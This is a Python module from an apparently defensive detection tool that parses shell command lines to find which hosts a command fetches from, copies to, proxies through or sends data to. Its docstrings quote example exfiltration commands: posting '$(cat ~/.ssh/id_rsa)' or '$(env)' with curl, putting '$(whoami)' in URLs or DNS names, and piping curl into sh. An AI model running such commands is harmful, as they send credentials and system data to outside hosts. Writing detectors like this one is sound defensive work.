"""Whom a command line is told to reach by name: the package sources a package manager fetches from, the remote end
of a copy, sync, backup or push, the proxy a program's traffic is sent through - and whether such a host is the
site's own or known (a short name, an internal zone, a listed domain) or someone else's.

Rules about data leaving or code arriving need the *role* of a host on the line, not every name-like word in it
(``model.pt`` and ``run.sh`` look like host names): each function here finds hosts only where its command puts
one. Bare addresses are argv_address_not_in's (collector/rules/keys.py).
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from collector.rules.context import under_any

INTERNAL_LABELS = frozenset(("internal", "intranet", "corp", "lan", "local", "private", "localdomain"))
INTERNAL_SUFFIXES = frozenset(("localhost", "local", "localdomain", "internal", "lan", "corp", "intranet", "private",
                               "home.arpa", "svc", "cluster.local"))
SHELLS = frozenset(("sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"))
WRAPPERS = frozenset(("sudo", "env", "exec", "nohup", "time", "command", "nice", "ionice", "setsid", "timeout",
                      "stdbuf", "doas", "xargs"))
# Last labels that are file types far more often than a server's zone (`train.py:12`, `ckpt.pt:/x`, `run.sh`)
FILE_SUFFIXES = frozenset(("py", "pyc", "txt", "json", "jsonl", "yaml", "yml", "log", "pt", "pth", "ckpt", "sh", "csv",
                           "md", "cfg", "ini", "conf", "toml", "xml", "html", "bin", "so", "c", "h", "cc", "cpp", "cu",
                           "tar", "gz", "tgz", "zip", "npz", "npy", "pkl", "safetensors", "onnx", "whl", "lock",
                           "ipynb", "parquet", "arrow", "tsv", "out", "err", "tmp", "bak", "rs", "go", "js", "ts"))
IPV4 = re.compile(r"\d{1,3}(?:\.\d{1,3}){3}")
HOST = r"(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{1,62}"

PACKAGE_TOOLS = frozenset(("pip", "pip2", "pip3", "pipx", "uv", "conda", "mamba", "micromamba", "npm", "pnpm", "yarn",
                           "bun", "gem", "poetry", "pdm", "easy_install"))
PACKAGE_VERBS = frozenset(("install", "i", "add", "download", "wheel", "get", "update", "upgrade", "create", "sync",
                           "env", "config"))     # `pip config set global.index-url URL`, `npm config set registry`
TRUSTED_HOST = re.compile(r"(?i)(?:^|\s)--trusted-host(?:=|\s+)['\"]?([^\s'\"]+)")   # pip's TLS exemption: a host
SOURCE_URL = re.compile(r"(?i)(?:git\+)?(?:https?|ssh|git|ftp)://(?:[^@/\s'\"]+@)?(\[[0-9a-f:.]+\]|[^/\s:'\"?#]+)")

# The programs that copy, sync or back up to a remote end they are given on the line (rclone's and mc's remotes are
# names from their own configuration: only a URL given to them is seen).
COPY_TOOLS = frozenset(("scp", "sftp", "rsync", "rclone", "lftp", "restic", "rustic", "borg", "borgmatic",
                        "duplicity", "kopia", "rdiff-backup", "unison", "bbcp", "s3cmd", "s5cmd", "mc", "aws",
                        "gsutil", "gcloud", "azcopy", "rsnapshot", "croc"))
# URL schemes whose "host" is a bucket or a repository name, not a machine: a bucket's owner is not in its name.
BUCKET_SCHEMES = frozenset(("s3", "s3a", "s3n", "gs", "gcs", "az", "abfs", "abfss", "wasb", "wasbs", "hf", "r2", "b2",
                            "oss", "cos", "swift", "file"))
REMOTE_URL = re.compile(rf"(?i)(?<![\w+.-])([a-z][a-z0-9+.-]*)://(?:[^@/\s'\"]+@)?({HOST})")
REMOTE_USER_AT = re.compile(rf"(?i)(?<![\w/.-])[\w.+-]+@({HOST})(?![\w-])")       # u@host, sftp:u@host:/srv
REMOTE_COLON = re.compile(rf"(?i)(?:^|(?<=[\s'\"=]))({HOST}):(?=[\w/~.]|:)")      # host:/path, host::module
STDIN_FROM_FILE = re.compile(r"(?<![<\d])<(?![<(&])\s*[^\s<>|;&]")                  # `< /data/model.pt`, not <<, <(

PROXY_SETTING = re.compile(
    rf"(?i)(?:\b(?:https?|all|ftp|socks|rsync|wss?)_proxy=|(?:^|\s)(?:-x|--proxy|--preproxy|--socks[45][ah]?"
    rf"(?:-hostname)?)(?:=|\s+)|\b(?:https?\.)?proxy\s+|\bhttps-proxy\s+)['\"]?(?:[a-z0-9+]+://)?(?:[^@\s'\"/]+@)?"
    rf"({HOST})(?![\w-])")


SCRIPT_OPTION = re.compile(r"(?:^|\s)(?:-[a-z]*c|eval)\s*$")   # sh -c '...', bash -lc "...", eval "...": commands


def _stages(text: str) -> Iterator[tuple[str, bool]]:
    """Each command of a line (split at ;, &&, ||, &, newlines, backticks, $( and pipes), and whether a pipe
    feeds it. A break inside quotes is text (``lftp -e "mirror -R /d /up; quit" sftp://host`` is one command with
    its URL), but a substitution starts commands of its own, quoted or not (``"$(curl h | sh)"``), and so does a
    shell's quoted script (``sh -c 'tar c . | ssh h "cat > x"'``)."""
    start, piped, quote, i, n = 0, False, "", 0, len(text)
    outer: list[tuple[str, str]] = []          # per open substitution or script: the quote around it, its closer
    while i < n:
        c = text[i]
        if quote == "'":
            quote = "" if c == "'" else quote
            i += 1
            continue
        if c == "\\":
            i += 2
            continue
        closes = bool(outer) and c == outer[-1][1] and (c in "`'\"" or not quote)
        if closes and c in "'\"":             # a script's closing quote: back to what was around it
            quote = outer.pop()[0]
            i += 1
            continue
        if closes:                             # a substitution ends: back inside whatever quoted it
            quote = outer.pop()[0]
            width, feeds = 1, False
        elif c == "`" or (c == "$" and text.startswith("$(", i)):
            outer.append((quote, c if c == "`" else ")"))
            quote, width, feeds = "", (1 if c == "`" else 2), False
        elif c in "'\"" and not quote and SCRIPT_OPTION.search(text, max(0, i - 12), i):
            outer.append(("", c))              # the script of sh -c: its commands are the line's
            i += 1
            continue
        elif c == '"':
            quote = "" if quote == '"' else '"'
            i += 1
            continue
        elif quote:
            i += 1
            continue
        elif c == "'":
            quote = "'"
            i += 1
            continue
        elif text.startswith(("&&", "||"), i):
            width, feeds = 2, False
        elif c in ";&\n":
            width, feeds = 1, False
        elif c == "|":
            width, feeds = 1, True
        else:
            i += 1
            continue
        yield text[start:i], piped
        start, piped, i = i + width, feeds, i + width
    yield text[start:], piped


def _unwrapped(stage: str) -> list[str]:
    """A command's words after what only wraps it (``sudo``, ``env A=B``, ``nohup``, ``timeout 60``,
    ``sh -c '``): its program, as written, first."""
    words = [w.strip("'\"(") for w in stage.split()]
    while words and (words[0] in WRAPPERS or "=" in words[0] or words[0].startswith("-") or not words[0]
                     or words[0].rsplit("/", 1)[-1] in SHELLS or re.fullmatch(r"\d+", words[0])):
        words = words[1:]
    return words


def command_words(stage: str) -> list[str]:
    """A command's unwrapped words, its program's name first without its directory, in lower case."""
    words = _unwrapped(stage)
    if words:
        words[0] = words[0].rsplit("/", 1)[-1].lower()
    return words


def foreign_host(host: str, known: set[str]) -> bool:
    """A named host that is neither inside (a short name, an internal zone or label) nor under a known zone."""
    host = host.lower().strip("[].")
    if "." not in host or IPV4.fullmatch(host) or ":" in host or host.rsplit(".", 1)[-1] in FILE_SUFFIXES:
        return False
    if under_any(host, INTERNAL_SUFFIXES) or INTERNAL_LABELS & set(host.split(".")[:-1]):
        return False                                # pypi.ml.internal, pypi.internal.example.com: the site's own
    return not under_any(host, known)


def _package_command(words: list[str]) -> bool:
    """A package manager asked to install, fetch or configure a source: ``pip install``, ``python3 -m pip
    download``, ``uv pip install``, ``conda create``, ``pip config set global.index-url``."""
    if not words:
        return False
    tool, rest = words[0], words[1:]
    if re.fullmatch(r"python[\d.]*", tool) and rest[:1] == ["-m"] and len(rest) > 1:
        tool, rest = rest[1].lower(), rest[2:]
    tool = re.sub(r"[\d.]+$", "", tool) if tool.startswith("pip") else tool
    return tool in PACKAGE_TOOLS and any(w.lower() in PACKAGE_VERBS for w in rest[:4])


def package_sources(text: str) -> Iterator[str]:
    """The hosts a package manager on this line is told to fetch from: an index, mirror, registry, channel or
    find-links URL, a trusted host, a URL or VCS URL given as the package."""
    for stage, _piped in _stages(text):
        if not _package_command(command_words(stage)):
            continue
        for m in TRUSTED_HOST.finditer(stage):
            yield m.group(1).split(":", 1)[0]
        for m in SOURCE_URL.finditer(stage):        # any URL: an option's (index, registry, channel, find-links) or
            yield m.group(1)                        # the package's; a channel name or a local directory is not one


def _moves_data(words: list[str], stage: str, piped: bool) -> bool:
    """A command that sends files to, or takes them from, a remote end given on its line: a copy, sync or backup
    tool; git adding a remote or pushing; ssh fed a file or a pipe (``tar c . | ssh h 'cat > x'``)."""
    if not words:
        return False
    tool = words[0]
    if tool == "sshpass":                           # sshpass -p pw scp ...: the copy is the next program
        rest = words[1:]
        while rest and rest[0].startswith("-"):
            rest = rest[2:] if rest[0] in ("-p", "-f", "-d", "-P") else rest[1:]
        return _moves_data([w.rsplit("/", 1)[-1] for w in rest[:1]] + rest[1:], stage, piped)
    if tool in COPY_TOOLS:
        return True
    if tool == "git":
        verbs = [w for w in words[1:6] if not w.startswith("-")]
        return "push" in verbs or ("remote" in verbs and ("add" in verbs or "set-url" in verbs))
    if tool == "ssh":
        return piped or bool(STDIN_FROM_FILE.search(stage))
    return False


IMAGE_PUSHERS = {"docker": ("push",), "podman": ("push",), "nerdctl": ("push",), "buildah": ("push",),
                 "skopeo": ("copy", "sync"), "crane": ("push", "copy", "cp", "append", "mutate"),
                 "oras": ("push", "copy", "cp", "attach"), "regctl": ("copy", "put"), "ollama": ("push",)}


def _registry(ref: str) -> str | None:
    """The registry host of an image reference (``registry.example.net:5000/x/y:1``, ``docker://host/x``): its
    first part when that names a host (a dot, a port or localhost), as docker reads it; None for Docker Hub's."""
    ref = ref.split("://", 1)[-1]
    if "/" not in ref:
        return None
    first = ref.split("/", 1)[0]
    if "." not in first and ":" not in first and first != "localhost":
        return None
    return first.rsplit(":", 1)[0] if first.count(":") == 1 else first


def image_push_registries(words: list[str]) -> Iterator[str]:
    """The registries a container image or an OCI artifact is pushed or copied to by this command: docker, podman,
    nerdctl and buildah push, skopeo copy, crane push/copy, oras push, regctl copy (the last reference named)."""
    verbs = IMAGE_PUSHERS.get(words[0]) if words else None
    args = [w for w in words[1:] if not w.startswith("-")]
    if not verbs or not args or args[0] not in verbs:
        return
    refs = [a for a in args[1:] if "/" in a and not a.startswith(("./", "/", "~"))]
    if words[0] == "oras" and args[0] == "push":
        refs = refs[:1]                                    # oras push REF FILE...: the files are not references
    if refs:
        host = _registry(refs[-1])
        if host:
            yield host


def transfer_remotes(text: str) -> Iterator[str]:
    """The named remote ends of the copies, syncs, backups and pushes on this line: ``u@host:/path``, ``host:path``,
    ``sftp:u@host:/repo``, ``ssh://host/...``, an object store's ``--endpoint-url https://host``, a git remote's URL,
    the registry an image or OCI artifact is pushed to. A bucket named in ``s3://`` or ``gs://`` is not a host."""
    for stage, piped in _stages(text):
        words = command_words(stage)
        yield from image_push_registries(words)
        if not _moves_data(words, stage, piped):
            continue
        for m in REMOTE_URL.finditer(stage):
            if m.group(1).lower() not in BUCKET_SCHEMES:
                yield m.group(2)
        for rx in (REMOTE_USER_AT, REMOTE_COLON):
            for m in rx.finditer(stage):
                yield m.group(1)


ENDPOINT = re.compile(
    rf"(?i)(?:(?<![\w+.-])(?:tcp|udp|wss?|socks[45]h?|quic|grpc|kcp|ssh|https?)://(?:[^@/\s'\"]+@)?({HOST})"
    rf"|(?:^|(?<=[\s=@'\"]))({HOST}):\d{{1,5}}(?![\w.]))")
# An option and the host it is given; whether the option is server-ish is asked of its name apart: one pattern
# with the keyword between two `[\w-]*` backtracked quadratically over a long option an observed process wrote
# (60 KB of `--hosthost...`: ~40 s of the collector's time).
OPTION_VALUE = re.compile(rf"(?i)(?:^|\s)--?([\w-]+)(?:=|\s+)['\"]?({HOST})(?![\w-])")
SERVERISH = re.compile(r"(?i)server|host|connect|c2|remote|relay|proxy|target|endpoint|peer|lhost|rhost")


def endpoint_hosts(text: str) -> Iterator[str]:
    """Named hosts written as a program's endpoint: a URL's host, ``host:port``, or the value of a server-ish
    option (``-server``, ``--connect``, ``--c2``, ``--relay``, ``--lhost``)."""
    for m in ENDPOINT.finditer(text):
        yield m.group(1) or m.group(2)
    for m in OPTION_VALUE.finditer(text):
        if SERVERISH.search(m.group(1)):
            yield m.group(2)


STAGED_PROGRAM = re.compile(r"^(\./|/tmp/|/var/tmp/|/dev/shm/|\S*/\.[^/\s.][^/\s]*/)")


def staged_program_endpoints(text: str) -> Iterator[str]:
    """The endpoint hosts handed to a program run from a staging place (``./x``, /tmp, /var/tmp, /dev/shm, a
    hidden directory) on this line: what a brought-in tunnel client, C2 agent or relay is told to reach."""
    for stage, _piped in _stages(text):
        words = _unwrapped(stage)
        if words and STAGED_PROGRAM.match(words[0]):
            yield from endpoint_hosts(" ".join(words[1:]))


def proxy_hosts(text: str) -> Iterator[str]:
    """The named proxies a command is told to send its traffic through: ``HTTPS_PROXY=http://host:3128 cmd``,
    ``curl -x socks5h://host:1080``, ``--proxy host:8080``, ``git config http.proxy``, ``npm config set proxy``."""
    for m in PROXY_SETTING.finditer(text):
        yield m.group(1)


OUTPUT_URL = re.compile(rf"(?i)(?<![\w+.-])(?:https?|wss?|ftp)://(?:[^@/\s'\"$`]+@)?({HOST})")
# ... or in the host's own labels: http://$(id -u).x.example.net/ asks DNS for the output under the zone. The host
# part is taken in one pass (each piece starts with its own character: no backtracking over an observed process's
# 60 KB of labels) and the zone after its last substitution is read apart.
OUTPUT_IN_HOST = re.compile(r"(?i)(?<![\w+.-])(?:https?|wss?|ftp)://(?:[^@/\s'\"]+@)?"
                            r"((?:[\w.-]|\$\([^()]{0,200}\)|`[^`]{0,200}`)+)")
ZONE_AT_START = re.compile(rf"(?i){HOST}")
URL_WORD = re.compile(r"[^\s|;&<>]*")
URL_SPAN_MAX = 2000                  # how far into a URL its command substitutions are looked for


def command_output_url_hosts(text: str) -> Iterator[str]:
    """The named hosts of URLs on a line that carry a command's output: ``"https://h/u?d=$(whoami)@$(hostname)"``,
    ``https://h/`id```, ``'https://h/?k='$(base64 -w0 f)`` - the shell computes something and the address itself
    takes it out, whichever program is handed the address; so does a substitution among the host's own labels
    (``http://$(id -u).x.example.net/``: DNS carries it). A URL in double quotes runs to the closing quote (a
    substitution in it may hold spaces and pipes); otherwise to the first space or shell operator (a
    substitution's ``$(`` comes before any space in it)."""
    for m in OUTPUT_URL.finditer(text):
        start, end = m.end(), min(len(text), m.end() + URL_SPAN_MAX)
        if m.start() > 0 and text[m.start() - 1] == '"':
            close = text.find('"', start, end)
            span = text[start:close if close >= 0 else end]
        else:
            span = URL_WORD.match(text, start, end).group(0)      # enough to hold a substitution's start
        if "$(" in span or "`" in span:
            yield m.group(1)
    for m in OUTPUT_IN_HOST.finditer(text):
        zone = _zone_after_output(m.group(1))
        if zone:
            yield zone


def _zone_after_output(host: str) -> str | None:
    """The zone a host part puts a substitution's output under (``$(id -u).x.example.net`` -> x.example.net), or
    None when it holds no substitution or no zone follows it."""
    if "$(" not in host and "`" not in host:
        return None
    rest = host[max(host.rfind(")"), host.rfind("`")) + 1:][:300]     # a DNS name is at most 253 bytes
    rest = rest[rest.find(".") + 1:] if "." in rest else ""            # the label the output ends is not the zone
    m = ZONE_AT_START.match(rest)
    return m.group(0) if m else None


# A request body an HTTP client is handed (-d, --data*, --json, --post-data, -F), and the commands whose output in it
# is data of the node's (a file, an encoding of one, the environment, a listing) rather than a timestamp or a counter.
BODY_OPTION = re.compile(r"""(?:^|\s)(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|--json|--post-data|--body-data"""
                         r"""|-F|--form)(?:=|\s+)(?:'[^']*'|"(?:[^"\\]|\\.)*"|\S+)""")
BODY_READER = re.compile(r"(?:\$\(|`)\s*(?:\S*/)?(?:cat|tac|base64|base32|basenc|xxd|od|hexdump|gzip|bzip2|xz|zstd"
                         r"|tar|zip|head|tail|env|printenv|openssl|strings|dd|find|ls|jq)\b")
HTTP_CLIENTS = frozenset(("curl", "wget", "wget2", "http", "https", "xh", "curlie"))
WEB_SCHEMES = frozenset(("http", "https", "ws", "wss"))


def _web_hosts(text: str) -> Iterator[str]:
    """The hosts of the web URLs (http, https, ws, wss) in a text."""
    for m in REMOTE_URL.finditer(text):
        if m.group(1).lower() in WEB_SCHEMES:
            yield m.group(2)


def posted_output_hosts(text: str) -> Iterator[str]:
    """The named hosts an HTTP client posts a file's or a command's data to inside the request body
    (``curl -d "{\\"content\\":\\"$(base64 -w0 f)\\"}" https://api.h/...``, ``--data "$(cat ~/.ssh/id_rsa)"``,
    ``-F "x=$(env)"``): an API of someone else's taking the data, with no file upload option to see. A body whose
    substitution is a date or a counter is not counted."""
    if not any(BODY_READER.search(m.group(0)) for m in BODY_OPTION.finditer(text)):
        return
    if any((words := command_words(stage)) and words[0] in HTTP_CLIENTS for stage, _piped in _stages(text)):
        yield from _web_hosts(text)               # the body's substitution splits the client's stage: the whole line


# Browsers run without a window, by the names they ship under.
HEADLESS_BROWSERS = frozenset(("chromium", "chromium-browser", "chrome", "google-chrome", "google-chrome-stable",
                               "google-chrome-beta", "headless_shell", "chrome-headless-shell", "msedge",
                               "microsoft-edge", "microsoft-edge-stable", "brave-browser", "firefox", "firefox-esr"))


def headless_pages(text: str) -> Iterator[str]:
    """The named hosts of the pages a browser run without a window (``--headless``) is pointed at: a page that
    mines in the browser, a command-and-control page a script drives, a form posted where curl is not looked at."""
    for stage, _piped in _stages(text):
        words = command_words(stage)
        if words and words[0] in HEADLESS_BROWSERS and any(
                w.split("=", 1)[0] in ("--headless", "-headless") for w in words[1:]):
            yield from _web_hosts(stage)
